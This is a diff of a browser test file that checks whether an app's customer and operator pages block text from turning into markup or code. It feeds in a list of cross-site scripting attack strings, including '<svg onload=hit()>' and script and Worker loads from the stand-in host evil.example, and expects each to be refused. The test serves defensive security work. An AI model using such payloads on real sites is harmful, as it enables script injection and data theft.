@@ -70,14 +70,17 @@ test("[CNT-04] the attacks are some that work: in a page that puts texts into it
       hit: () => Object.assign(window, { hits: Number(Reflect.get(window, "hits")) + 1 }),
     }),
   );
-  let elements = 0;
-  for (const attack of attacks)
-    elements += await page.evaluate((text) => {
-      const place = document.createElement("div");
-      place.innerHTML = text;
-      document.querySelector("main")?.append(place);
-      return place.childElementCount > 0 ? 1 : 0;
-    }, attack);
+  // In one step: what a busy machine needs for one is little beside what it needs for the way there and back.
+  const elements = await page.evaluate(
+    (texts) =>
+      texts.filter((text) => {
+        const place = document.createElement("div");
+        place.innerHTML = text;
+        document.querySelector("main")?.append(place);
+        return place.childElementCount > 0;
+      }).length,
+    attacks,
+  );
   expect(attacks.length).toBeGreaterThanOrEqual(200);
   expect(new Set(attacks).size).toBe(attacks.length);
   expect(elements).toBeGreaterThan(140);
@@ -153,43 +156,57 @@ const write = async (call: Calls): Promise<void> => {
   }
 };
 
-test("[CNT-04] in the app's pages no text becomes markup or code, whatever would ask for it", async ({
+test("[CNT-04] in the pages of customers and operators no text becomes markup or code, whatever would ask for it", async ({
   browser,
   url,
 }) => {
-  const page = await browser.newPage();
-  await page.goto(url);
-  const tried = await page.evaluate(async () => {
-    const nameOf = (act: () => unknown): string => {
-      try {
-        act();
-        return "done";
-      } catch (error) {
-        return error instanceof Error ? error.name : "refused";
-      }
-    };
-    const place = document.createElement("div");
-    const script = document.createElement("script");
-    // In a task of the page's own: what a test evaluates may evaluate texts itself.
-    const evaluated = await new Promise<string>((resolve) =>
-      setTimeout(() => resolve(nameOf(() => Reflect.construct(Function, ["return 1"])))),
-    );
-    return [
-      // What the app starts by itself: a script of this origin.
-      nameOf(() => new Worker("/sw.js").terminate()),
-      evaluated,
-      nameOf(() => (place.innerHTML = "<b>x</b>")),
-      nameOf(() => place.insertAdjacentHTML("beforeend", "<svg onload=hit()>")),
-      nameOf(() => (script.src = "https://evil.example/x.js")),
-      nameOf(() => new Worker("https://evil.example/x.js")),
-      nameOf(() => (script.text = "hit()")),
-      nameOf(() => document.write("<b>x</b>")),
-      nameOf(() => new DOMParser().parseFromString("<b>x</b>", "text/html")),
-    ];
-  });
-  expect(tried).toEqual(["done", "EvalError", ...Array<string>(7).fill("TypeError")]);
-  await page.close();
+  for (const address of [url, consoleUrl()]) {
+    const page = await browser.newPage();
+    await page.goto(address);
+    expect(await page.evaluate(tryMarkup), address).toEqual([
+      "done",
+      "EvalError",
+      ...Array<string>(9).fill("TypeError"),
+    ]);
+    await page.close();
+  }
 });
+
+/** How each attempt to make markup or code of a text ends; runs in the page. */
+const tryMarkup = async (): Promise<readonly string[]> => {
+  const nameOf = (act: () => unknown): string => {
+    try {
+      act();
+      return "done";
+    } catch (error) {
+      return error instanceof Error ? error.name : "refused";
+    }
+  };
+  const place = document.createElement("div");
+  const script = document.createElement("script");
+  const policies = Reflect.get(window, "trustedTypes") as {
+    readonly defaultPolicy: { readonly createHTML: (text: string) => unknown };
+    readonly createPolicy: (name: string, rules: object) => unknown;
+  };
+  // In a task of the page's own: what a test evaluates may evaluate texts itself.
+  const evaluated = await new Promise<string>((resolve) =>
+    setTimeout(() => resolve(nameOf(() => Reflect.construct(Function, ["return 1"])))),
+  );
+  return [
+    // What the app starts by itself: a script of this origin.
+    nameOf(() => new Worker("/sw.js").terminate()),
+    evaluated,
+    nameOf(() => (place.innerHTML = "<b>x</b>")),
+    nameOf(() => place.insertAdjacentHTML("beforeend", "<svg onload=hit()>")),
+    nameOf(() => (script.src = "https://evil.example/x.js")),
+    nameOf(() => new Worker("https://evil.example/x.js")),
+    nameOf(() => (script.text = "hit()")),
+    nameOf(() => document.write("<b>x</b>")),
+    nameOf(() => new DOMParser().parseFromString("<b>x</b>", "text/html")),
+    nameOf(() => policies.defaultPolicy.createHTML("x")),
+    nameOf(() => policies.createPolicy("another", { createHTML: (text: string) => text })),
+  ];
+};
 
 test("[CNT-04] [COM-01] [SUP-01] every page of the app shows attacks as texts", async ({ page, url }) => {
   test.setTimeout(1_800_000);
